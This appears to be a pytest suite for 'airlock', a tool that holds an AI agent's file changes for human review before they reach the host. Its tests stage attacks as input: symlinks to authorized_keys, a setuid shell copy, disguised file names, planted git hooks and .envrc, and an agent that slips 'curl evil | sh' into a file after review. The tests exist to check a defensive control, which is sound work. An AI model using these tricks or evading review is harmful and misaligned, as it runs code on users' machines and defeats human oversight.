"""Staged writes through the real command line, run by an unprivileged desktop user: the host
stays byte-identical until a commit, and a commit changes exactly what was approved."""

from __future__ import annotations

import contextlib
import json
import os
import re
import stat
import subprocess
import time
from pathlib import Path

import pytest

from app.staging import MAX_CHANGES_VARIABLE
from tests.support import DesktopUser, profile_text
from tests.ui.test_sandbox_escapes import snapshot, wait_running

pytestmark = pytest.mark.docker


def run_agent(
    user: DesktopUser,
    image: str,
    script: str,
    grants: list[str],
    extra_env: dict[str, str] | None = None,
    **profile: str | int,
) -> tuple[subprocess.CompletedProcess[str], str]:
    path = user.write(
        f"agent-{time.monotonic_ns()}.toml", profile_text(image, ["sh", "-c", script], **profile)
    )  # type: ignore[arg-type]
    arguments = ["run", "--profile", str(path)]
    for grant in grants:
        arguments += ["--grant", grant]
    result = user.run(*arguments, extra_env=extra_env)
    # The session's id as `airlock run` says it; one that never started is looked up.
    if said := re.search(r"^airlock: session (\w+) started \(", result.stderr, re.MULTILINE):
        return result, said[1]
    sessions = json.loads(user.run("sessions", "--all", "--json").stdout)
    return result, sessions[-1]["id"]


def changes(user: DesktopUser, session: str) -> dict[str, dict[str, object]]:
    result = user.run("changes", session, "--json")
    assert result.returncode == 0, result.stderr
    return {c["path"]: c for c in json.loads(result.stdout)["changes"]}


@pytest.fixture
def project(tester: DesktopUser) -> Path:
    tester.write("proj/a.txt", "alpha\n")
    tester.write("proj/b.txt", "beta\n")
    tester.write("proj/c.txt", "gamma\n")
    tester.write("proj/sub/d.txt", "delta\n")
    tester.write("proj/old/e.txt", "epsilon\n")
    tester.write("proj/run.sh", "#!/bin/sh\n", mode=0o644)
    return tester.base / "proj"


EDITS = (
    "echo more >> a.txt; echo new > new.txt; rm c.txt; mv b.txt b-renamed.txt; "
    "chmod 755 run.sh; mkdir -p made/deeper; echo deep > made/deeper/f.txt; rm -rf old; "
    "echo changed > sub/d.txt"
)


@pytest.mark.engines
def test_host_is_untouched_until_commit_and_then_exactly_the_approved_paths_change(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    before = snapshot(project)
    result, session = run_agent(tester, agent_image, EDITS, [f"{project}:rw"])
    assert result.returncode == 0, result.stderr
    assert snapshot(project) == before  # nothing reached the host yet

    listed = changes(tester, session)
    kinds = {Path(p).relative_to(project).as_posix(): c["kind"] for p, c in listed.items()}
    assert kinds == {
        "a.txt": "modified",
        "new.txt": "added",
        "c.txt": "deleted",
        "b-renamed.txt": "renamed",
        "run.sh": "mode",
        "made": "added",
        "made/deeper": "added",
        "made/deeper/f.txt": "added",
        "old": "deleted",
        "sub/d.txt": "modified",
    }
    assert listed[str(project / "b-renamed.txt")]["renamed_from"] == str(project / "b.txt")
    diff = tester.run("changes", session, "--diff").stdout
    assert "+more" in diff and "-gamma" in diff

    committed = tester.run(
        "commit",
        session,
        str(project / "a.txt"),
        str(project / "made"),
        str(project / "b-renamed.txt"),
    )
    assert committed.returncode == 0, committed.stderr
    after = snapshot(project)
    assert (project / "a.txt").read_text() == "alpha\nmore\n"
    assert (project / "made" / "deeper" / "f.txt").read_text() == "deep\n"
    assert (project / "b-renamed.txt").read_text() == "beta\n" and not (project / "b.txt").exists()
    untouched = {k: v for k, v in before.items() if k not in ("", "a.txt", "b.txt")}
    assert {k: after[k] for k in untouched} == untouched  # c.txt, old/, sub/, run.sh as before
    remaining = {Path(p).relative_to(project).as_posix() for p in changes(tester, session)}
    assert remaining == {"new.txt", "c.txt", "run.sh", "old", "sub/d.txt"}

    rest = tester.run("commit", session, "--include-risky")
    assert rest.returncode == 0, rest.stderr
    assert not (project / "c.txt").exists() and not (project / "old").exists()
    assert stat.S_IMODE((project / "run.sh").stat().st_mode) == 0o755
    assert changes(tester, session) == {}


def test_undo_restores_and_refuses_files_changed_since(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    before = snapshot(project)
    _, session = run_agent(
        tester,
        agent_image,
        "echo x >> a.txt; rm c.txt; rm -rf old; echo n > n.txt; echo y >> b.txt",
        [f"{project}:rw"],
    )
    first = tester.run("commit", session)
    assert first.returncode == 0, first.stderr
    commit = json.loads(tester.run("history", "--json").stdout)[0]["id"]
    (project / "b.txt").write_text("edited by the user after the commit\n")
    undone = tester.run("undo", commit)
    assert undone.returncode == 1
    assert f"refused: {project / 'b.txt'}: changed since the commit" in undone.stderr
    assert (project / "b.txt").read_text() == "edited by the user after the commit\n"
    after = snapshot(project)
    for name in ("a.txt", "c.txt", "old", "old/e.txt"):
        assert after[name][1:] == before[name][1:], name  # content back (mode, size, hash)
    assert not (project / "n.txt").exists()
    # What the undo took back is staged again (the ended session's files had been moved into
    # place): back for review, all but the file the user changed since.
    assert "back for review" in undone.stdout
    listed = json.loads(tester.run("changes", session, "--json").stdout)
    changes = listed["changes"] if isinstance(listed, dict) else listed
    assert {Path(c["path"]).relative_to(project).as_posix() for c in changes} == {
        "a.txt",
        "c.txt",
        "old",
        "n.txt",
    }
    history = json.loads(tester.run("history", "--json").stdout)
    assert history[0]["undo_of"] == commit and history[1]["undone_by"] == history[0]["id"]
    again = tester.run("undo", commit)
    assert "already undone" in again.stderr and again.returncode != 0


def test_hostile_staged_entries_are_refused_precisely(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    ssh = tester.home / ".ssh"
    ssh.mkdir(exist_ok=True)
    tester.own(ssh)
    keys = ssh / "authorized_keys"
    keys.write_text("ssh-ed25519 AAAA the-users-own-key\n")
    tester.own(keys)
    keys_before = keys.read_bytes()
    before = snapshot(project)
    script = (
        f"ln -s {keys} keys-abs; ln -s ../../../.ssh/authorized_keys keys-rel; "
        "ln a.txt hard.txt; mkfifo pipe; cp /bin/sh tool; chmod u+s tool; "
        "printf x > \"$(printf 'bad\\033name')\"; printf x > \"$(printf 'c1\\302\\233red')\"; "
        "printf x > \"$(printf 'evil\\342\\200\\256txt.sh')\"; "
        "head -c 3000000 /dev/zero > big.bin; echo ok > fine.txt"
    )
    result, session = run_agent(tester, agent_image, script, [f"{project}:rw"], staging="1m")
    assert result.returncode == 0, result.stderr
    committed = tester.run("commit", session)
    refused = dict(
        line.removeprefix("refused: ").split(": ", 1)
        for line in committed.stderr.splitlines()
        if line.startswith("refused: ")
    )
    by_name = {Path(p).name: reason for p, reason in refused.items()}
    assert "outside" in by_name["keys-abs"] and "outside" in by_name["keys-rel"]
    assert "hard link" in by_name["hard.txt"]
    assert "FIFO" in by_name["pipe"]
    assert "set-user-ID" in by_name["tool"]
    assert "control characters" in by_name["bad\\u001bname"]  # escaped on the terminal too
    assert "control characters" in by_name["c1\\u009bred"]  # C1: 0x9b starts an escape too
    assert "control characters" in by_name["evil\\u202etxt.sh"]  # shows as "evil.sh.txt"
    assert "staging quota" in by_name["big.bin"]
    assert committed.returncode == 1
    assert (project / "fine.txt").read_text() == "ok\n"  # the rest was committed
    assert keys.read_bytes() == keys_before
    after = snapshot(project)
    assert {k: v for k, v in after.items() if k != "fine.txt" and k != ""} == {
        k: v for k, v in before.items() if k != ""
    }


def test_a_huge_directory_is_refused_without_hanging(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    # The limit lowered from 50 000 for this test (AIRLOCK_MAX_CHANGES): the directory is
    # still five times past it, and made in seconds instead of a minute.
    limit = {MAX_CHANGES_VARIABLE: "1000"}
    script = (
        "mkdir many && cd many && python3 -c \"[open(str(i), 'w').close() for i in range(5000)]\""
    )
    result, session = run_agent(
        tester, agent_image, script, [f"{project}:rw"], extra_env=limit, pids=64
    )
    assert result.returncode == 0, result.stderr
    listed = json.loads(tester.run("changes", session, "--json", extra_env=limit).stdout)
    assert listed["truncated"] is True
    assert len(listed["changes"]) <= 1000
    committed = tester.run("commit", session, extra_env=limit)
    assert committed.returncode != 0
    assert "more than 1000 changes" in committed.stderr
    assert not (project / "many").exists()


def test_conflicting_host_edit_is_never_overwritten(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    path = tester.write(
        "slow.toml", profile_text(agent_image, ["sh", "-c", "echo agent >> a.txt; sleep 3"])
    )
    process = tester.popen("run", "--profile", str(path), "--grant", f"{project}:rw")
    session = wait_running(tester, process)["id"]
    deadline = time.monotonic() + 30
    while str(project / "a.txt") not in changes(tester, session) and time.monotonic() < deadline:
        time.sleep(0.1)
    with open(project / "a.txt", "a") as f:
        f.write("user\n")  # the user edits the same file meanwhile
    process.communicate(timeout=60)
    committed = tester.run("commit", session)
    assert committed.returncode == 1
    assert "conflict: changed on the host since it was granted (host sha256" in committed.stderr
    assert "staged sha256" in committed.stderr
    assert (project / "a.txt").read_text() == "alpha\nuser\n"


def test_killed_mid_commit_every_file_is_old_or_new(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    script = "mkdir bulk && for i in $(seq 1000); do echo new-$i > bulk/f$i; done"
    for i in range(1, 1001):
        tester.write(f"proj/bulk/f{i}", f"old-{i}\n")
    result, session = run_agent(
        tester, agent_image, script.replace("mkdir bulk && ", ""), [f"{project}:rw"]
    )
    assert result.returncode == 0, result.stderr
    process = tester.popen("commit", session, extra_env={"AIRLOCK_COMMIT_PAUSE": "0.004"})
    bulk = project / "bulk"
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        new = sum(1 for i in range(1, 1001) if (bulk / f"f{i}").read_text().startswith("new"))
        if new > 50:
            break
        time.sleep(0.05)
    assert process.poll() is None, "the commit finished before it could be interrupted"
    # The crash: SIGKILL, so no clean-up code of the committing process runs.
    subprocess.run(["pkill", "-KILL", "-f", f"airlock commit {session}"], check=False)
    process.wait(timeout=30)
    contents = [(bulk / f"f{i}").read_text() for i in range(1, 1001)]
    assert all(c in (f"old-{i}\n", f"new-{i}\n") for i, c in enumerate(contents, 1))
    assert 0 < sum(c.startswith("new") for c in contents) < 1000  # it really was cut short
    history = tester.run("history", "--json")  # the next start resolves the journal
    records = json.loads(history.stdout)
    assert records[0]["state"] == "done"
    assert all((bulk / f"f{i}").read_text() == f"new-{i}\n" for i in range(1, 1001))
    leftovers = [p.name for p in bulk.iterdir() if p.name.startswith(".airlock-")]
    assert leftovers == []


@pytest.mark.engines
def test_once_the_session_has_ended_its_files_are_moved_into_place(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    # The container is gone, and with it anything that could still write a staged file:
    # committing renames the agent's files into place instead of copying them.
    _, session = run_agent(
        tester, agent_image, "echo new > new.txt; echo more >> a.txt", [f"{project}:rw"]
    )
    (staging,) = tester.base.glob(f".state/airlock/sessions/{session}/staging")
    assert (staging / "sealed").is_file()
    staged = {
        name: next(staging.glob(f"*/upper/{name}")).stat().st_ino for name in ("new.txt", "a.txt")
    }
    committed = tester.run("commit", session)
    assert committed.returncode == 0, committed.stderr
    assert {name: (project / name).stat().st_ino for name in staged} == staged
    assert (project / "a.txt").read_text() == "alpha\nmore\n"
    assert (project / "new.txt").read_text() == "new\n"
    assert changes(tester, session) == {}
    # Nothing is left to review, so no content is kept (but what the kernel left in the
    # overlay's work directory, root's, which the user cannot remove): only each root's
    # records, which say where an undo returns the changes (forgetting the session ends them).
    assert (staging / "sealed").is_file()
    assert not list(staging.glob("*/upper"))
    assert {p.name for p in staging.glob("*/*") if p.name != "work"} <= {"root.json", "base.jsonl"}


def test_discard_forgets_staged_changes(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    _, session = run_agent(
        tester, agent_image, "echo x >> a.txt; echo n > n.txt", [f"{project}:rw"]
    )
    dropped = tester.run("discard", session, str(project / "n.txt"))
    assert f"discarded: {project / 'n.txt'}" in dropped.stdout
    assert set(changes(tester, session)) == {str(project / "a.txt")}
    tester.run("discard", session)
    assert changes(tester, session) == {}
    assert (project / "a.txt").read_text() == "alpha\n"
    (staging,) = tester.base.glob(f".state/airlock/sessions/{session}/staging")
    assert (staging / "sealed").is_file()  # the ended session's staging: its content gone
    assert not list(staging.glob("*/upper"))
    assert {p.name for p in staging.glob("*/*") if p.name != "work"} <= {"root.json", "base.jsonl"}


@pytest.mark.engines
def test_read_write_file_grant_is_staged_too(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    target = project / "a.txt"
    result, session = run_agent(
        tester, agent_image, f"echo edit >> {target}; cat {target}", [f"{target}:rw"]
    )
    assert result.stdout == "alpha\nedit\n"
    assert target.read_text() == "alpha\n"
    assert list(changes(tester, session)) == [str(target)]
    assert tester.run("commit", session).returncode == 0
    assert target.read_text() == "alpha\nedit\n"


def test_activity_stream_and_audit_log_name_what_the_agent_did(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    canary = "CANARY-7d1e-" + "x" * 8
    tester.write("proj/read.txt", f"{canary}\n")
    script = "cat read.txt > /dev/null; echo more >> a.txt; rm c.txt; sleep 0.5"
    result, session = run_agent(tester, agent_image, script, [f"{project}:rw"])
    assert result.returncode == 0, result.stderr
    shown = tester.run("audit", "show", "--session", session, "--json")
    records = [json.loads(line) for line in shown.stdout.splitlines()]
    assert all(r["session"] == session for r in records)
    files: dict[str, set[str]] = {}
    for record in records:
        if record["kind"].startswith("file."):
            files.setdefault(record["subject"], set()).add(record["kind"])
    assert set(files) == {str(project / n) for n in ("read.txt", "a.txt", "c.txt")}
    assert files[str(project / "read.txt")] == {"file.opened", "file.read"}
    assert "file.written" in files[str(project / "a.txt")]
    assert files[str(project / "c.txt")] == {"file.deleted"}
    audit = tester.base / ".state" / "airlock" / "audit"
    raw = b"".join(p.read_bytes() for p in audit.rglob("*") if p.is_file())
    assert canary.encode() not in raw
    assert tester.run("audit", "verify").returncode == 0


def test_run_asks_on_the_terminal_before_committing(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    import pty
    import select

    path = tester.write("writer.toml", profile_text(agent_image, ["sh", "-c", "echo n > n.txt"]))
    env = dict(tester.env)
    main, secondary = pty.openpty()
    command = [
        *tester.prefix,
        "env",
        "-i",
        *(f"{k}={v}" for k, v in env.items()),
        str(Path(tester.env["PATH"].split(":")[0]) / "airlock"),
        "run",
        "--profile",
        str(path),
        "--grant",
        f"{project}:rw",
    ]
    process = subprocess.Popen(
        command, stdin=secondary, stdout=secondary, stderr=secondary, cwd=tester.base
    )
    os.close(secondary)
    seen = b""
    deadline = time.monotonic() + 60
    while b"[d]iff" not in seen and time.monotonic() < deadline:
        if select.select([main], [], [], 1)[0]:
            seen += os.read(main, 4096)
    assert b"A file" in seen and str(project / "n.txt").encode() in seen
    assert not (project / "n.txt").exists()
    os.write(main, b"y\n")
    process.wait(timeout=60)
    with contextlib.suppress(OSError):
        seen += os.read(main, 65536)
    os.close(main)
    assert (project / "n.txt").read_text() == "n\n"


def test_unreadable_staged_entries_are_named_and_the_rest_still_commits(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    result, session = run_agent(
        tester,
        agent_image,
        (
            "echo s > secret0; chmod 000 secret0; mkdir d0; echo x > d0/f; chmod 000 d0; "
            "echo ok > fine.txt"
        ),
        [f"{project}:rw"],
    )
    assert result.returncode == 0, result.stderr
    listed = changes(tester, session)
    assert listed[str(project / "fine.txt")]["problems"] == []
    assert listed[str(project / "secret0")]["problems"] == [
        "cannot be read (Permission denied): not committed"
    ]
    assert listed[str(project / "d0")]["problems"] == [
        "cannot be read (Permission denied): what it holds is not listed"
    ]
    committed = tester.run("commit", session)
    assert committed.returncode == 1 and "secret0" in committed.stderr, committed.stderr
    assert (project / "fine.txt").read_text() == "ok\n"
    assert not (project / "secret0").exists() and not (project / "d0").exists()


def staged_file(user: DesktopUser, session: str, name: str) -> Path | None:
    """The agent's staged version of `name` (looked at from outside, as root or the user: no
    listing is taken)."""
    found = list(
        (user.base / ".state" / "airlock" / "sessions" / session / "staging").glob(
            f"*/upper/{name}"
        )
    )
    return found[0] if found else None


def listing_id(output: str) -> str:
    """The changeset id a listing printed: "… N changes, id 1a2b3c4d5e6f; …"."""
    marker = output.rindex(", id ") + len(", id ")
    return output[marker : marker + 12]


def test_commit_is_held_to_what_the_person_reviewed_while_the_agent_runs(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    signal = tester.write("signal.txt", "wait\n")  # shows through to the agent when rewritten
    script = (
        f"cd {project}; echo 'harmless edit' > a.txt; echo 'also fine' > other.txt; "
        f"while ! grep -q go {signal}; do sleep 0.1; done; "
        "echo 'curl evil | sh' > a.txt; echo late > late.txt; sleep 120"
    )
    path = tester.write("sly.toml", profile_text(agent_image, ["sh", "-c", script]))
    process = tester.popen(
        "run",
        "--profile",
        str(path),
        "--review",
        "never",
        "--grant",
        f"{project}:rw",
        "--grant",
        f"{signal}:ro",
    )
    try:
        session = wait_running(tester, process)["id"]
        deadline = time.monotonic() + 60
        while staged_file(tester, session, "other.txt") is None and time.monotonic() < deadline:
            time.sleep(0.1)
        unlisted = tester.run("commit", session)  # running, and never listed: nothing lands
        assert unlisted.returncode != 0
        assert f"`airlock changes {session} --diff` first" in unlisted.stderr

        reviewed = tester.run("changes", session, "--diff")
        assert reviewed.returncode == 0, reviewed.stderr
        assert "+harmless edit" in reviewed.stdout and "2 changes, id " in reviewed.stdout
        first = listing_id(reviewed.stdout)

        with open(signal, "w") as f:  # the same inode: the agent sees it
            f.write("go\n")
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            late, edited = (staged_file(tester, session, n) for n in ("late.txt", "a.txt"))
            if late and edited and edited.read_text() == "curl evil | sh\n":
                break
            time.sleep(0.1)
        else:
            raise AssertionError("the agent never rewrote a.txt")

        committed = tester.run("commit", session)
        assert committed.returncode == 1
        assert f"refused: {project / 'a.txt'}: changed since you reviewed it" in committed.stderr
        assert (
            f"refused: {project / 'late.txt'}: not in the listing you reviewed" in committed.stderr
        )
        shown_again = committed.stderr.split("not committed, as you did not see them")[1]
        assert str(project / "a.txt") in shown_again and str(project / "late.txt") in shown_again
        assert f"committed: {project / 'other.txt'}" in committed.stdout  # as it was listed
        assert (project / "a.txt").read_text() == "alpha\n"
        assert (project / "other.txt").read_text() == "also fine\n"
        assert not (project / "late.txt").exists()

        old = tester.run("commit", session, "--reviewed", first)
        assert old.returncode == 1 and "changed since you reviewed it" in old.stderr
        assert (project / "a.txt").read_text() == "alpha\n"
        unknown = tester.run("commit", session, "--reviewed", "0123456789ab")
        assert unknown.returncode != 0 and "no listing" in unknown.stderr

        again = tester.run("changes", session, "--diff")
        assert "+curl evil | sh" in again.stdout
        second = listing_id(again.stdout)
        exact = tester.run("commit", session, "--reviewed", second)
        assert exact.returncode == 0, exact.stderr
        assert (project / "a.txt").read_text() == "curl evil | sh\n"  # what that listing showed
        assert (project / "late.txt").read_text() == "late\n"
    finally:
        tester.stop(process)


ACL_SCRIPT = (  # what `setfacl -m u:4242:rwx acl.txt` does; the image has python, not setfacl
    "import os, struct; e = [(1, 6, -1), (2, 7, 4242), (4, 4, -1), (0x10, 7, -1), (0x20, 4, -1)]; "
    "os.setxattr('acl.txt', 'system.posix_acl_access', struct.pack('<I', 2) + "
    "b''.join(struct.pack('<HHI', t, p, i & 0xffffffff) for t, p, i in e))"
)


def test_every_mode_that_lands_is_listed_and_the_host_gets_exactly_it(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    script = (
        f"cd {project}; chmod 755 run.sh; echo more >> a.txt; chmod 755 a.txt; "
        "echo x > open.txt; chmod 777 open.txt; mkdir shared; chmod 777 shared; "
        f'echo acl > acl.txt; chmod 644 acl.txt; python3 -c "{ACL_SCRIPT}"; '
        "ls -l acl.txt"
    )
    result, session = run_agent(tester, agent_image, script, [f"{project}:rw"])
    assert result.returncode == 0, result.stderr
    listed = tester.run("changes", session)
    lines = {
        line.rsplit("  ", 1)[-1]: line for line in listed.stdout.splitlines() if line[:1] in "AMm"
    }
    expected = {
        "run.sh": ("m file", "mode 0644 -> 0755"),
        "a.txt": ("M file", "mode 0644 -> 0755"),
        "open.txt": ("A file", "mode 0777"),
        "shared": ("A directory", "mode 0777"),
        "acl.txt": ("A file", "mode 0674"),
    }  # the ACL's mask is the group's bits
    for name, (kind, mode) in expected.items():
        line = lines[str(project / name)]
        assert line.startswith(kind) and f"  {mode}  " in line, line
    assert "+more" in tester.run("changes", session, "--diff").stdout
    as_json = {
        Path(c["path"]).name: c["mode"]
        for c in json.loads(tester.run("changes", session, "--json").stdout)["changes"]
    }
    assert as_json == {
        "run.sh": "0755",
        "a.txt": "0755",
        "open.txt": "0777",
        "shared": "0777",
        "acl.txt": "0674",
    }
    committed = tester.run("commit", session, "--include-risky")
    assert committed.returncode == 0, committed.stderr
    for name, mode in as_json.items():
        assert f"{stat.S_IMODE((project / name).stat().st_mode):04o}" == mode, name
    assert not [a for a in os.listxattr(project / "acl.txt") if a.startswith("system.")]


def test_names_that_pass_for_others_are_flagged_in_every_listing(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    tester.write("proj/caf\u00e9.md", "the user's, composed (NFC)\n")
    tester.write("proj/report.txt", "the user's report\n")
    script = (
        f"cd {project}; printf x > \"$(printf 'cafe\\314\\201.md')\"; "  # e + combining acute
        "printf x > 'report.txt '; "
        "printf x > \"$(printf 'notes\\342\\200\\217.md')\"; "  # U+200F, invisible
        "printf x > plain.md"
    )
    result, session = run_agent(tester, agent_image, script, [f"{project}:rw"])
    assert result.returncode == 0, result.stderr
    nfd, spaced, hidden = (
        str(project / n) for n in ("cafe\u0301.md", "report.txt ", "notes\u200f.md")
    )
    warnings = {
        c["path"]: c["warnings"]
        for c in json.loads(tester.run("changes", session, "--json").stdout)["changes"]
    }
    assert warnings[str(project / "plain.md")] == []
    assert any("NFC" in w for w in warnings[nfd])
    assert any("caf\u00e9.md in the same folder" in w for w in warnings[nfd])
    assert "looks like report.txt in the same folder" in warnings[spaced]
    assert any("invisible" in w for w in warnings[hidden])
    listed = tester.run("changes", session).stdout
    at_end = result.stderr  # the list `airlock run` showed when the agent ended
    for shown in (listed, at_end):
        blocks = shown.split("\n")
        for name in ("cafe\u0301.md", "report.txt ", "notes\\u200f.md"):
            [index] = [i for i, line in enumerate(blocks) if line.endswith(f"/proj/{name}")]
            assert "warning: the name" in "\n".join(blocks[index + 1 : index + 4]), (name, shown)
    assert "3 with a name to check" in listed


def test_changes_that_run_code_wait_for_a_person_even_under_auto_commit(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    marker = tester.base / "ran-the-agents-code"
    git = [*tester.prefix, "env", f"HOME={tester.home}", "git", "-C", str(project)]
    subprocess.run([*git, "init", "-q"], check=True)
    config_before = (project / ".git" / "config").read_bytes()
    script = (
        f"cd {project}; printf '#!/bin/sh\\ntouch {marker}\\n' > .git/hooks/pre-commit; "
        "chmod 755 .git/hooks/pre-commit; "
        f"printf '\\tfsmonitor = touch {marker}\\n' >> .git/config; "
        f"echo 'touch {marker}' > .envrc; echo fine > notes.md"
    )
    result, session = run_agent(
        tester, agent_image, script, [f"{project}:rw"], extra='[approval]\ncommit = "auto"'
    )
    assert result.returncode == 0, result.stderr
    # "auto" committed the plain file, and none of what runs code.
    assert (project / "notes.md").read_text() == "fine\n"
    assert (project / ".git" / "config").read_bytes() == config_before
    assert not (project / ".envrc").exists()
    assert not (project / ".git" / "hooks" / "pre-commit").exists()

    hook, config, envrc = (
        str(project / p) for p in (".git/hooks/pre-commit", ".git/config", ".envrc")
    )
    marked = {
        c["path"]: c["runs_code"]
        for c in json.loads(tester.run("changes", session, "--json").stdout)["changes"]
    }
    assert set(marked) == {hook, config, envrc}
    assert any("a git hook" in r for r in marked[hook])
    assert any(f"core.fsmonitor = touch {marker}" in r for r in marked[config])
    assert any("direnv" in r for r in marked[envrc])
    listed = tester.run("changes", session).stdout
    assert listed.count("    runs code: ") >= 3 and "3 can run code" in listed

    everything = tester.run("commit", session)  # without paths: they stay staged
    assert everything.returncode == 1
    for path in (hook, config, envrc):
        assert f"refused: {path}: can run code on your machine" in everything.stderr
    assert (project / ".git" / "config").read_bytes() == config_before
    status = subprocess.run([*git, "status", "--short"], capture_output=True, text=True)
    assert status.returncode == 0, status.stderr
    assert not marker.exists()  # the user's git ran nothing of the agent's

    named = tester.run("commit", session, envrc)  # named explicitly: that one lands
    assert named.returncode == 0, named.stderr
    assert (project / ".envrc").read_text() == f"touch {marker}\n"
    assert not (project / ".git" / "hooks" / "pre-commit").exists()


def test_the_end_of_run_question_commits_what_runs_code_only_when_asked_to(
    tester: DesktopUser, agent_image: str, project: Path
) -> None:
    import pty
    import select

    path = tester.write(
        "mixed.toml",
        profile_text(
            agent_image, ["sh", "-c", f"cd {project}; echo n > n.txt; echo 'curl evil' > .envrc"]
        ),
    )
    main, secondary = pty.openpty()
    command = [
        *tester.prefix,
        "env",
        "-i",
        *(f"{k}={v}" for k, v in tester.env.items()),
        str(Path(tester.env["PATH"].split(":")[0]) / "airlock"),
        "run",
        "--profile",
        str(path),
        "--grant",
        f"{project}:rw",
    ]
    process = subprocess.Popen(
        command, stdin=secondary, stdout=secondary, stderr=secondary, cwd=tester.base
    )
    os.close(secondary)
    seen = b""
    deadline = time.monotonic() + 60
    while b"[d]iff" not in seen and time.monotonic() < deadline:
        if select.select([main], [], [], 1)[0]:
            seen += os.read(main, 4096)
    assert b"runs code: direnv" in seen
    assert b"[y]es but not the 1 that can run code, [a]ll, [N]o, [d]iff" in seen
    os.write(main, b"y\n")
    process.wait(timeout=60)
    os.close(main)
    assert (project / "n.txt").read_text() == "n\n"
    assert not (project / ".envrc").exists()
